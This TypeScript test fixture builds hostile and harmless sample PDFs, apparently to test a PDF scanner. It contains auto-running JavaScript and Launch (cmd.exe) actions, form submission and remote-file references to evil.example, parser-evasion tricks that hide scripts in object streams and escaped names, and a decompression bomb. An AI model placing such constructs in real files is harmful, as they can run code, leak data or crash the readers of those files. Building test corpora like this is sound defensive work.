/** A corpus of PDFs, hostile and harmless, made from nothing. */
import { deflateSync } from 'node:zlib';
import { AFRelationship, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { aPdf, catalog, page, pages, pdfOf, pdfWithTableStream, stream, tableOf } from './pdfs.ts';

export const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
export const withCatalog = (more: string, ...others: string[]) => pdfOf([catalog(more), pages, page(), ...others]);
export const withPage = (more: string, ...others: string[]) => pdfOf([catalog(), pages, page(more), ...others]);
export const withLink = (action: string) =>
  withPage('/Annots [4 0 R]', `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>`);
export const withAnnotation = (annotation: string, ...others: string[]) =>
  withPage(`/Annots [<< /Type /Annot /Rect [0 0 9 9] ${annotation} >>]`, ...others);

/** The table of the file says that object 4 stands where the text first stands, wherever that is. */
function pointingAt(file: Buffer, text: string): Buffer {
  const body = file.toString('latin1');
  const objects = [1, 2, 3].map((n) => body.indexOf(`${n} 0 obj`));
  const before = body.slice(0, body.indexOf('xref\n'));
  return Buffer.from(before + tableOf(before.length, [...objects, body.indexOf(text)]), 'latin1');
}
const hidden = `4 0 obj ${script} endobj`;
const opened = catalog('/OpenAction 4 0 R');
export const link = '<< /S /URI /URI (https://evil.example) >>';

/** Objects inside a compressed stream, as newer programs write them. */
export const objectStream = (objects: readonly string[], dict = '/Filter /FlateDecode', pack = deflateSync) => {
  const header = objects.map((_, i) => `${40 + i} ${objects.slice(0, i).join(' ').length + (i && 1)}`).join(' ');
  const data = pack(Buffer.from(`${header} ${objects.join(' ')}`, 'latin1')).toString('latin1');
  return stream(data, `/Type /ObjStm /N ${objects.length} /First ${header.length + 1} ${dict}`);
};
const asIs = ((data: Buffer) => data) as unknown as typeof deflateSync;
const asHex = ((data: Buffer) => Buffer.from(`${data.toString('hex')}>`)) as unknown as typeof deflateSync;

/** An annotation that nothing but the object stream 5 holds. */
const field = `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K ${script} >> >>`;
const link7 = `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example) >> >>`;
const onPage = { 1: catalog(), 2: pages, 3: page('/Annots [7 0 R]') };
const withObjects = (objects: string, inside: Parameters<typeof pdfWithTableStream>[1] = { 7: [5, 0] }) =>
  pdfWithTableStream({ ...onPage, 5: objects }, inside);
interface Packed {
  /** Numbers and places, as the stream says them. */
  list: string;
  count?: number;
  first?: number;
  dict?: string;
  type?: string;
}
const packedObjects = (body: string, { list, count, first, dict = '', type = '/Type /ObjStm' }: Packed) => {
  const data = deflateSync(Buffer.from(`${list} ${body}`, 'latin1')).toString('latin1');
  const said = `/N ${count ?? list.split(' ').length / 2} /First ${first ?? list.length + 1} /Filter /FlateDecode ${dict}`;
  return stream(data, `${type} ${said}`);
};
const plainObjects = (body: string, list = '7 0') =>
  stream(`${list} ${body}`, `/Type /ObjStm /N ${list.split(' ').length / 2} /First ${list.length + 1}`);
const lengthIn = (objects: string) => /\/Length (\d+)/.exec(objects)?.[1] ?? '';
/** The record of an object stream, interrupted by a word that ends an object for some readers; another one looks as it should. */
const interrupted = (word: string) =>
  pdfWithTableStream(
    {
      ...onPage,
      5: packedObjects(field, { list: '7 0', type: '' }).replace('/First', `${word} /First`),
      6: `null\nendobj\n5 0 obj\n${packedObjects(link7, { list: '7 0' })}`,
    },
    { 7: [5, 0] },
  );
const splitAt = (body: string, what: string, number: number) =>
  packedObjects(body, { list: `${number} 0 44 ${body.indexOf(what)}` });
const opensPage = page(`/AA << /O ${link} >>`);
const opensFile = catalog(`/OpenAction ${link}`);

async function written(work: (pdf: PDFDocument) => unknown, options = {}): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  pdf.addPage([300, 200]).drawText('Delivered.');
  await work(pdf);
  return Buffer.from(await pdf.save(options));
}

export type Corpus = Readonly<Record<string, Buffer | Promise<Buffer>>>;

/** What could act by itself. */
export const active: Corpus = {
  'a script when it is opened': withCatalog(`/OpenAction ${script}`),
  'a script among the names': withCatalog(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`),
  'a script when a page is shown': withPage(`/AA << /O ${script} >>`),
  'a script when a field is typed into': withAnnotation(`/Subtype /Widget /FT /Tx /T (a) /AA << /K ${script} >>`),
  'a script behind a link': withLink(script),
  'a script in a stream': withLink('<< /S /JavaScript /JS 5 0 R >>'),
  'a script under an escaped name': withLink('<< /S /J#61va#53cript /#4AS (x) >>'),
  'a script after an action without harm': withLink(`<< /S /URI /URI (https://a.example) /Next ${script} >>`),
  'a script of a playing film': withAnnotation('/Subtype /Screen /A << /S /Rendition /OP 0 /JS (x) >>'),
  'a script in a form of the other kind': withCatalog('/AcroForm << /Fields [] /XFA (<xdp/>) >>'),
  'a script inside a compressed stream': withCatalog('', objectStream(['<< /a 1 >>', script])),
  'a script inside a plain stream of objects': withCatalog('', objectStream([script], '', asIs)),
  'a script inside a stream of objects of no type': pdfOf([
    catalog(),
    pages,
    page(),
    objectStream([script]).replace('/Type /ObjStm', ''),
  ]),
  'a script written by a program': written((pdf) => pdf.addJavaScript('a', 'app.alert(1)')),
  'a script written by a program, not compressed': written((pdf) => pdf.addJavaScript('a', 'app.alert(1)'), {
    useObjectStreams: false,
  }),
  'a script that a later revision covers': Buffer.concat([
    withCatalog(`/OpenAction ${script}`),
    Buffer.from(`1 0 obj\n${catalog()}\nendobj\n`),
    aPdf().subarray(-200),
  ]),
  'a script in a comment': pointingAt(pdfOf([opened, pages, page(), `% ${hidden}\nnull`]), hidden),
  'a script in a string': pointingAt(pdfOf([opened, pages, page(), `(${hidden})`]), hidden),
  'a script in the data of a picture': pointingAt(pdfOf([opened, pages, page(), stream(hidden)]), hidden),
  'a script after brackets that do not match': withLink('<< /A [ >> ] /K >> /S /JavaScript /JS (x) >>'),
  'a script after a stream inside a record': withLink('<< /A << >> stream\nendstream /S /JavaScript /JS (x) >>'),
  'a program to start': withLink('<< /S /Launch /Win << /F (cmd.exe) >> >>'),
  'a program to start when it is opened': withCatalog('/OpenAction << /S /Launch /F (a.exe) >>'),
  'a form that is sent elsewhere': withLink('<< /S /SubmitForm /F (https://evil.example) >>'),
  'data that are fetched': withLink('<< /S /ImportData /F (a.fdf) >>'),
  'a jump into another file': withLink('<< /S /GoToR /F (//evil.example/a.pdf) /D [0 /Fit] >>'),
  'a jump into a file inside': withLink('<< /S /GoToE /T << /R /C /N (a.pdf) >> >>'),
  'a file among the names': written((pdf) => pdf.attach(Buffer.from('MZ'), 'a.exe', { mimeType: 'a/b' })),
  'a file that belongs to it': written((pdf) =>
    pdf.attach(Buffer.from('<x/>'), 'a.xml', { afRelationship: AFRelationship.Data }),
  ),
  'a file pinned to a page': withAnnotation('/Subtype /FileAttachment /FS << /F (a.exe) >>'),
  'a file without a type': withCatalog('/AF [<< /F (a.exe) /EF << /F 4 0 R >> >>]', stream('MZ')),
  'a web page that opens with it': withCatalog('/OpenAction << /S /URI /URI (https://evil.example) >>'),
  'a web page that opens with it, told elsewhere': pdfOf([opened, pages, page(), link]),
  'a web page that opens with it, inside a compressed stream': withCatalog('/OpenAction 40 0 R', objectStream([link])),
  'a web page that opens after a place': withCatalog(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${link} >>`),
  'a web page that opens with it, beside a place': Buffer.concat([
    pdfOf([opened, pages, page(), '<< /S /GoTo /D [3 0 R /Fit] >>']),
    Buffer.from(`4 0 obj\n${link}\nendobj\n`),
    aPdf().subarray(-200),
  ]),
  'a print that begins with it': withCatalog('/OpenAction << /S /Named /N /Print >>'),
  'a web page that opens when a page is shown': withPage(`/AA << /O ${link} >>`),
  'a web page that opens when a page is shown, told elsewhere': withPage('/AA 4 0 R', `<< /O ${link} >>`),
  'a web page that opens when a page is shown, told by a number with a sign': withPage(
    '/AA +4 0 R',
    `<< /O ${link} >>`,
  ),
  'a web page that opens when a page is shown, told by a number with a point': withPage(
    '/AA 4. 0 R',
    `<< /O ${link} >>`,
  ),
  'a file that is fetched, told by a number with a sign': withCatalog('/Extra << /FS +4 0 R /F (a) >>', '/URL'),
  'a script in the second object stream': pdfWithTableStream(
    { ...onPage, 5: packedObjects('<< /a 1 >>', { list: '8 0' }), 6: packedObjects(field, { list: '7 0' }) },
    { 7: [6, 0], 8: [5, 0] },
  ),
  'a script in a stream that another one goes on with': pdfWithTableStream(
    {
      ...onPage,
      5: packedObjects(link7, { list: '8 0' }),
      6: packedObjects(field, { list: '7 0', dict: '/Extends 5 0 R' }),
    },
    { 7: [6, 0], 8: [5, 0] },
  ),
  'a script under an escaped name, inside a stream with escaped names': withObjects(
    packedObjects(field.replace('/JavaScript', '/J#61va#53cript'), { list: '7 0' })
      .replace('/ObjStm', '/Obj#53tm')
      .replace('/First', '/#46irst'),
  ),
  'a script after a comment and a string that look like an end': withObjects(
    packedObjects(field.replace('/AA', '/X (endobj) %endobj\n /AA'), { list: '7 0' }),
  ),
  'an article of another file': withLink('<< /S /Thread /F (//evil.example/a.pdf) /D 0 >>'),
  'an article of another file, told elsewhere': withPage(
    '/Annots [4 0 R]',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 5 0 R /F (//evil.example/a) /D 0 >> >>',
    '/Thread',
  ),
  'a film of the old kind': withAnnotation('/Subtype /Movie /Movie << /F (https://evil.example/a.mov) >>'),
  'a sound that is fetched': withLink('<< /S /Sound /Sound 5 0 R >>'),
  'a file that is fetched': withCatalog('/Extra << /Type /Filespec /FS /URL /F (https://evil.example) >>'),
  'a file that is fetched, of no type': withCatalog('/Extra << /FS /URL /F (https://evil.example) >>'),
  'a page of another file': withPage(
    '/Resources << /XObject << /X 4 0 R >> >>',
    stream('', '/Subtype /Form /BBox [0 0 9 9] /Ref << /F (//evil.example/a.pdf) /Page 0 >>'),
  ),
  'a picture of another file': withPage(
    '/Resources << /XObject << /X 4 0 R >> >>',
    stream('', '/Subtype /Form /BBox [0 0 9 9] /OPI << /1.3 << /F (//evil.example/a.tif) >> >>'),
  ),
  'a film with a player': withAnnotation('/Subtype /RichMedia /RichMediaContent << >>'),
};

/** What is locked. */
export const encrypted: Corpus = {
  'a password to open it': written((pdf) => pdf.encrypt({ userPassword: 'a', ownerPassword: 'b' })),
  'a password to change it': written((pdf) => pdf.encrypt({ userPassword: '', ownerPassword: 'b' })),
  'a lock under an escaped name': pdfOf([catalog(), pages, page()], {
    trailer: '/#45ncrypt << /Filter /Standard /V 1 /R 2 >>',
  }),
};

/** What is no PDF, is damaged, or is made to wear us out. */
export const broken: Corpus = {
  'a picture': Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  ),
  'a web page': Buffer.from('<html><script>alert(1)</script></html>'),
  'an archive': Buffer.from('PK\x03\x04 [Content_Types].xml', 'latin1'),
  'one byte': Buffer.from('%'),
  'a beginning alone': Buffer.from('%PDF-1.7\n'),
  'a beginning and an end': Buffer.from('%PDF-1.7\nstartxref\n0\n%%EOF\n'),
  'a file cut in half': aPdf().subarray(0, 300),
  'a file whose beginning comes late': Buffer.concat([Buffer.alloc(1_030, 32), aPdf()]),
  'a web page before its beginning': Buffer.concat([Buffer.from('<html><script>alert(1)</script>\n'), aPdf()]),
  'an archive before its beginning': Buffer.concat([Buffer.from('PK\x03\x04aaaa', 'latin1'), aPdf()]),
  'a web page behind its end': Buffer.concat([aPdf(), Buffer.from('<html><script>alert(1)</script>\n')]),
  'an archive behind its end': Buffer.concat([aPdf(), Buffer.from('PK\x03\x04aaaa', 'latin1')]),
  'a letter behind its end and blanks': Buffer.concat([aPdf(), Buffer.alloc(2_000, ' '), Buffer.from('a\n')]),
  'no pages': pdfOf([catalog(), '<< /Type /Pages /Kids [] /Count 0 >>']),
  'no page tree': pdfOf(['<< /Type /Catalog >>']),
  'a page that is no page tree': pdfOf([catalog(), page()]),
  'a page tree that holds itself': pdfOf([catalog(), '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
  'nests without end': withCatalog('['.repeat(400_000)),
  'a stream that swells a thousandfold': withCatalog('', objectStream([' '.repeat(140 * 1_048_576)])),
  'objects packed in an unusual way': withCatalog('', objectStream([script], '/Filter /ASCIIHexDecode', asHex)),
  'objects packed as another object says': withCatalog('', objectStream([script], '/Filter 5 0 R'), '/FlateDecode'),
  'objects of a kind that another object says': withCatalog(
    '',
    objectStream([script]).replace('/ObjStm', '5 0 R').replace('/N 1', ''),
    '/ObjStm',
  ),
  'an action of a page, split where the next object is said to begin': pdfWithTableStream(
    { 1: catalog(), 2: pages, 5: splitAt(opensPage, '<< /O', 3) },
    { 3: [5, 0] },
  ),
  'what the file opens with, split where the next object is said to begin': pdfWithTableStream(
    { 2: pages, 3: page(), 5: splitAt(opensFile, '<< /S', 1) },
    { 1: [5, 0] },
  ),
  'an object that begins within a name of another one': withObjects(splitAt(link7, 'nnot', 7)),
  'an object that begins within a string of another one': withObjects(splitAt(link7, '//a.example', 7)),
  'an object that begins within a comment of another one': withObjects(
    splitAt(link7.replace('/A ', '%\t<< /B 1 >>\n/A '), '<< /B', 7),
  ),
  'an object that ends where another one goes on': withObjects(packedObjects('<< /A [1 2 3', { list: '7 0 8 9' })),
  'a comment from one object into the next': withObjects(packedObjects(`null %${link7}\n`, { list: '7 0 8 6' })),
  'two objects in one place': withObjects(packedObjects(link7, { list: '7 0 8 0' })),
  'one object twice': withObjects(packedObjects(`null ${link7}`, { list: '7 0 7 5' })),
  'objects out of their order': withObjects(packedObjects(`null ${link7}`, { list: '7 5 8 0' })),
  'something between two objects': withObjects(packedObjects(`null 5 ${link7}`, { list: '8 0 7 7' }), { 7: [5, 1] }),
  'something before the first object': withObjects(packedObjects(`null ${link7}`, { list: '7 5' })),
  'something after the last object': withObjects(packedObjects(`${link7} >> 5`, { list: '7 0' })),
  'more objects than are counted': withObjects(packedObjects(`null ${link7}`, { list: '8 0 7 5', count: 1 }), {
    7: [5, 1],
  }),
  'an object that is listed and not counted': withObjects(packedObjects(link7, { list: '7 0 8 9', count: 1 })),
  'fewer objects than are counted': withObjects(packedObjects(`8 9 ${link7}`, { list: '7 4', count: 2 })),
  'objects that begin within their list': withObjects(packedObjects(link7, { list: '7 0', first: 3 })),
  'objects that begin behind their list': withObjects(packedObjects(link7, { list: '7 0', first: 400 })),
  'a list of objects with a comment': withObjects(packedObjects(link7, { list: '7 0 %9', count: 1 })),
  'a list of objects with a sign': withObjects(packedObjects(link7, { list: '+7 0' })),
  'an object that is no whole value': withObjects(packedObjects(`${link7} /B <<`, { list: '7 0' })),
  'an object whose brackets do not match': withObjects(packedObjects('<< /A [ >> ] >>', { list: '7 0' })),
  'a script behind a word that ends nothing, "obj"': interrupted('obj'),
  'a script behind a word that ends nothing, "endobj"': interrupted('endobj'),
  'a script behind a word that ends nothing, "9 0 obj"': interrupted('9 0 obj'),
  'a script behind a word that ends nothing, "endstream"': interrupted('endstream'),
  'a script behind a word that ends nothing, "endobj 9 0 obj"': interrupted('endobj 9 0 obj'),
  'a script behind a single bracket': interrupted('> obj'),
  'a script behind brackets that do not match': interrupted('/A [ >> ] obj'),
  'a script behind an end that stands in a string': withObjects(
    plainObjects(`<< /X <endstream (> /AA << /K ${script} >> /Y () ${link7.slice(2)}`),
  ),
  'a stream of objects that is said to be shorter': withObjects(
    packedObjects(link7, { list: '7 0' }).replace(/\/Length \d+/, '/Length 20'),
  ),
  'a plain stream of objects that is said to be shorter': withObjects(
    plainObjects(`${link7.slice(0, -2)}/LaunchX 1 >>`).replace(/\/Length \d+/, `/Length ${link7.length + 9}`),
  ),
  'a stream of objects that is said to be longer': withObjects(
    packedObjects(link7, { list: '7 0' }).replace(/\/Length \d+/, '/Length 9000'),
  ),
  'a stream of objects without a length': withObjects(
    packedObjects(link7, { list: '7 0' }).replace(/\/Length \d+/, ''),
  ),
  'a stream of objects whose length is said in two ways': pdfWithTableStream(
    {
      ...onPage,
      5: packedObjects(link7, { list: '7 0' }).replace(/\/Length \d+/, '/Length 8 0 R'),
      8: lengthIn(packedObjects(link7, { list: '7 0' })),
      9: 'null endobj 8 0 obj 90 endobj',
    },
    { 7: [5, 0] },
  ),
  'something behind the data of a stream of objects': withObjects(
    packedObjects(link7, { list: '7 0' }).replace('\nendstream', '<< /S /X >>\nendstream'),
  ),
  'a stream of objects that begins behind a lone carriage return': withObjects(
    packedObjects(link7, { list: '7 0' }).replace('stream\n', 'stream\r'),
  ),
  'a stream of objects that begins behind a comment': withObjects(
    packedObjects(link7, { list: '7 0' }).replace('stream\n', 'stream %\n'),
  ),
  'an object in another place than its stream says': pdfWithTableStream(
    {
      1: catalog('/OpenAction 40 0 R'),
      2: pages,
      3: page(),
      5: packedObjects(`${link} [3 0 R /Fit]`, { list: `41 0 40 ${link.length + 1}` }),
    },
    { 40: [5, 0] },
  ),
  'the same, in a table of no type': pdfWithTableStream(
    {
      1: catalog('/OpenAction 40 0 R'),
      2: pages,
      3: page(),
      5: packedObjects(`${link} [3 0 R /Fit]`, { list: `41 0 40 ${link.length + 1}` }),
    },
    { 40: [5, 0] },
    { dict: '', isShifted: true },
  ),
  'an object in a stream that is not there': pdfWithTableStream({ ...onPage, 7: link7 }, { 8: [6, 0] }),
  'objects that are damaged': withCatalog('', objectStream(['<< /a 1 >>'], '/Filter /FlateDecode', asIs)),
};

/** What may be kept. */
export const harmless: Corpus = {
  'one page': aPdf(),
  'several pages, a name and a form': written((pdf) => {
    pdf.setTitle('Łukasz Nowak – Zażółć gęślą jaźń');
    pdf.setKeywords(['JavaScript', '/Launch']);
    for (let i = 0; i < 12; i += 1) pdf.addPage([300, 200]).drawText(`Page ${i} of /JavaScript and /EmbeddedFile`);
    const field = pdf.getForm().createTextField('name');
    field.addToPage(pdf.getPage(1));
    field.setText('Lukasz');
    pdf.getForm().createCheckBox('agreed').addToPage(pdf.getPage(2));
  }),
  'the same, not compressed': written(
    (pdf) => {
      pdf.setAuthor('Łukasz');
      pdf.getForm().createTextField('Łukasz').addToPage(pdf.getPage(0));
    },
    { useObjectStreams: false },
  ),
  'a link to a web page': withLink('<< /S /URI /URI (https://example.com/docs/JavaScript) >>'),
  'a link to a web page, compressed': written((pdf) =>
    pdf.getPage(0).node.set(
      PDFName.of('Annots'),
      pdf.context.obj([
        {
          Type: 'Annot',
          Subtype: 'Link',
          Rect: [0, 0, 9, 9],
          A: { S: 'URI', URI: PDFString.of('https://example.com/Launch') },
        },
      ]),
    ),
  ),
  'a page that it opens at': withCatalog('/OpenAction [3 0 R /Fit]'),
  'a page that it opens at, by an action': withCatalog('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>'),
  'a page that it opens at, told elsewhere, and a link': pdfOf([
    opened,
    pages,
    page('/Annots [5 0 R]'),
    '<< /S /GoTo /D [3 0 R /Fit] >>',
    `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${link} >>`,
  ]),
  'a page that it opens at, inside a compressed stream': withCatalog(
    '/OpenAction 41 0 R',
    objectStream([link, '<< /D [3 0 R /Fit] /S /GoTo >>']),
  ),
  'articles, a structure with references and a resource of an odd name': pdfOf([
    catalog('/Threads [4 0 R] /StructTreeRoot << /Type /StructTreeRoot /K << /S /Note /Ref [5 0 R] >> >>'),
    pages,
    page('/Resources << /ProcSet [/PDF /AA /FS] >>'),
    '<< /Type /Thread /F 5 0 R >>',
    '<< /T 4 0 R /P 3 0 R /R [0 0 9 9] >>',
  ]),
  'a jump within': withLink('<< /S /GoTo /D [3 0 R /Fit] >>'),
  'a later revision': Buffer.concat([
    aPdf(),
    Buffer.from('3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] >>\nendobj\n'),
    aPdf().subarray(-180),
  ]),
  'a few bytes before it': Buffer.concat([Buffer.from('\r\n\r\n'), aPdf()]),
  'a filled up last block': Buffer.concat([aPdf(), Buffer.alloc(3_000)]),
  'objects of every kind inside a stream, right behind each other': pdfWithTableStream(
    {
      ...onPage,
      5: packedObjects(`${link7}(a string)<48656c6c6f>[1 2 /A]null 12 3 0 R/Name true`, {
        list: ['7 0', ...[0, 10, 22, 30, 35, 38, 43, 49].map((at, i) => `${20 + i} ${link7.length + at}`)].join(' '),
      }),
    },
    { 7: [5, 0], 20: [5, 1], 27: [5, 8] },
    { isShifted: true },
  ),
  'an object stream that goes on with another one, and says its length elsewhere': pdfWithTableStream(
    {
      ...onPage,
      5: packedObjects(link7, { list: '7 0' }),
      6: packedObjects(`null\n[1]\n`, { list: '9 0 10 5', dict: '/Extends 5 0 R' }).replace(
        /\/Length (\d+)/,
        '/Length 8 0 R',
      ),
      8: lengthIn(packedObjects(`null\n[1]\n`, { list: '9 0 10 5', dict: '/Extends 5 0 R' })),
    },
    { 7: [5, 0], 9: [6, 0], 10: [6, 1] },
  ),
  'an object stream as it lies there': withObjects(plainObjects(`${link7}\nnull`, `7 0 8 ${link7.length + 1}`)),
  'lines as on another system': withObjects(
    packedObjects(link7, { list: '7 0' }).replace('stream\n', 'stream\r\n').replace('\nendstream', '\r\nendstream'),
  ),
  'a later revision of what is inside a stream': Buffer.concat([
    withObjects(packedObjects(link7, { list: '7 0' })),
    Buffer.from(`7 0 obj\n${link7}\nendobj\n`),
    aPdf().subarray(-200),
  ]),
  'words that are only words': aPdf('The keys /JS /JavaScript /Launch \\(/XFA\\) 4 0 obj'.replace('4 0 obj', 'object')),
};
